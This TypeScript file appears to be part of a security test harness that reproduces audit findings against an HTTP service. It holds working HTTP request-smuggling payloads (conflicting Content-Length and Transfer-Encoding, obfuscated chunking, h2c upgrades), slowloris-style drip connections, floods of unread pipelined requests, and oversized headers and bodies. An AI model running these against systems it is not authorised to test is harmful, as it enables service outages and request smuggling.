/** Connections that no well-behaved client opens: pipelines, unread answers, dripped and broken requests. */
import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, repeated } from "./attack.ts";
import type { Target } from "./target.ts";

const host = "Host: a\r\n";
const get = (path: string): string => `GET ${path} HTTP/1.1\r\n${host}\r\n`;
const text = '{"text":"a"}';
const hash = (headers: string, body = text): string =>
  `POST /crypto/hash HTTP/1.1\r\n${host}${headers}\r\n${body}`;
const chunked = `c\r\n${text}\r\n0\r\n\r\n`;

/** Broken heads and bodies, each on a connection of its own. */
const broken: readonly string[] = [
  "GET /health HTTP/1.1\r\nHost: a\r\nHost: strings.b\r\n\r\n",
  "GET /health HTTP/1.1\r\n\r\n",
  "GET /health HTTP/2.0\r\nHost: a\r\n\r\n",
  hash("Transfer-Encoding: gzip, chunked\r\n", chunked),
  hash("Transfer-Encoding: chunked, identity\r\n", chunked),
  hash("Transfer-Encoding: xchunked\r\n", chunked),
  hash("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", chunked),
  hash("Transfer-Encoding : chunked\r\n", chunked),
  hash("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", chunked),
  hash("Content-Length: +12\r\n"),
  hash("Content-Length: 0x0c\r\n"),
  hash("Content-Length: 12, 12\r\n"),
  hash("Content-Length: 12\r\nContent-Length: 13\r\n"),
  hash("Content-Length: 99999999999999999999\r\n"),
  "GET /health HTTP/1.1\nHost: a\n\n",
  "GET /health HTTP/1.1\r\nHost: a\r\n folded\r\n\r\n",
  "GET /health HTTP/1.1\r\nHost: a\rX: y\r\n\r\n",
  hash("Transfer-Encoding: chunked\r\n", `c\n${text}\r\n0\r\n\r\n`),
  hash("Transfer-Encoding: chunked\r\n", `c;a\nGET / HTTP/1.1\r\n${text}\r\n0\r\n\r\n`),
  hash("Transfer-Encoding: chunked\r\n", `fffffffffffffffff\r\n${text}`),
  hash("Transfer-Encoding: chunked\r\n", `c;${"a".repeat(40_000)}\r\n${text}\r\n0\r\n\r\n`),
  `POST /crypto/hash HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n${chunked}`,
  `GET /health HTTP/1.1\r\n${host}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n${get("/health")}`,
  `GET /health HTTP/1.1\r\n${host}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAA\r\n\r\n`,
  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  `GET http://a@strings.x:99/health HTTP/1.1\r\n${host}\r\n`,
  `GET ftp://x/health HTTP/1.1\r\n${host}\r\n`,
  `OPTIONS * HTTP/1.1\r\n${host}\r\n`,
  `TRACE /health HTTP/1.1\r\n${host}\r\n`,
  `CONNECT a:443 HTTP/1.1\r\n${host}\r\n`,
  get("//health"),
  get("/./health"),
  get("/%"),
  `GET /health HTTP/1.1\r\n${host}X-Gateway-Host: __proto__\r\n\r\n`,
  `GET /health HTTP/1.1\r\n${host}${repeated(3_000, (at) => `X${at}: a\r\n`).join("")}\r\n`,
  hash("Expect: 100-continue, x\r\nContent-Length: 12\r\n"),
  hash("Content-Encoding: gzip\r\nContent-Length: 12\r\n"),
  "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".padEnd(500, "\x00"),
  "\x00".repeat(70_000),
  "\r\n".repeat(50_000),
];

/** Asks for much on one connection and does not read a byte. */
async function readNothing(target: Target, bytes: string, ms: number): Promise<void> {
  const socket = target.socket();
  socket.pause();
  socket.write(bytes);
  await sleep(ms);
  target.count("unread");
  socket.destroy();
}

async function holdOpen(target: Target, count: number, opening: string, drip: string): Promise<void> {
  const sockets = repeated(count, () => {
    const socket = target.socket();
    socket.on("data", (answer) => target.count(answer.toString("latin1", 9, 12)));
    if (opening !== "") socket.write(opening);
    return socket;
  });
  for (let round = 0; round < 10; round += 1) {
    await sleep(1_000);
    for (const socket of sockets) if (drip !== "" && socket.writable) socket.write(drip);
  }
  for (const socket of sockets) {
    target.count(socket.destroyed ? "closed" : "open");
    socket.destroy();
  }
}

export const socketAttacks: readonly Attack[] = [
  {
    name: "a Content-Type of 10,000 to 80,000 blanks",
    finding: "C3",
    async run(target) {
      for (const count of [10_000, 40_000, 80_000]) {
        const type = `application/json;charset=utf8"${"\t".repeat(count)}x`;
        await target.post("/crypto/hash", text, { headers: { "content-type": type } });
      }
    },
  },
  {
    name: "600 pipelined GET /openapi.json",
    finding: "C5",
    run: (target) =>
      target.raw(get("/openapi.json").repeat(600), { waitMs: 15_000, answers: 600 }).then(() => undefined),
  },
  {
    name: "2,000 pipelined GET /openapi.json, read by nobody",
    finding: "C5",
    run: (target) => readNothing(target, get("/openapi.json").repeat(2_000), 12_000),
  },
  {
    name: "500 pipelined QR codes of 2,000 pixels",
    finding: "C5",
    run: (target) =>
      target
        .raw(get("/qr/generate?data=abc&size=2000").repeat(500), { waitMs: 12_000, answers: 500 })
        .then(() => undefined),
  },
  {
    name: "100 connections that read nothing",
    finding: "H4",
    async run(target) {
      await Promise.all(repeated(100, () => readNothing(target, get("/openapi.json").repeat(30), 10_000)));
    },
  },
  {
    name: "250 host names of 900 kB",
    finding: "M4",
    async run(target) {
      for (let at = 0; at < 250; at += 1) {
        const name = String(at).padStart(6, "0") + "x".repeat(900 * 1_024);
        await target.get("/health", { headers: { "x-gateway-host": name } });
      }
    },
  },
  {
    name: "headers of 1 MB on every kind of route",
    finding: "A5",
    async run(target) {
      const long = `X-A: ${"a".repeat(1_000_000)}\r\n`;
      for (const path of ["/health", "/crypto/hash?text=a", "/docs", "/nowhere"]) {
        await target.raw(`GET ${path} HTTP/1.1\r\n${host}${long}\r\n`, { waitMs: 2_000, answers: 1 });
      }
      const many = repeated(40, (at) => `X-${at}: ${"a".repeat(15_000)}\r\n`).join("");
      await target.raw(`GET /health HTTP/1.1\r\n${host}${many}\r\n`, { waitMs: 2_000, answers: 1 });
    },
  },
  {
    name: "bodies of 20 MB to operations that take 1 MiB",
    finding: "A4",
    async run(target) {
      const body = JSON.stringify({ texts: ["a".repeat(20_000_000)] });
      for (const path of ["/strings/slugify", "/crypto/hash", "/text/analyze"]) {
        await Promise.all(repeated(4, () => target.post(path, body)));
      }
    },
  },
  {
    name: "40 kinds of broken requests, three times each",
    finding: "L2",
    async run(target) {
      const all = repeated(3, () => broken).flat();
      await Promise.all(all.map((bytes) => target.raw(bytes, { waitMs: 3_000 })));
    },
  },
  {
    name: "800 connections that say nothing",
    finding: "H4",
    run: (target) => holdOpen(target, 800, "", ""),
  },
  {
    name: "400 headers and bodies that drip",
    finding: "H4",
    async run(target) {
      await Promise.all([
        holdOpen(target, 200, `GET /health HTTP/1.1\r\n${host}`, "X: a\r\n"),
        holdOpen(target, 200, hash("Content-Length: 1000\r\n", "{"), " "),
      ]);
    },
  },
];
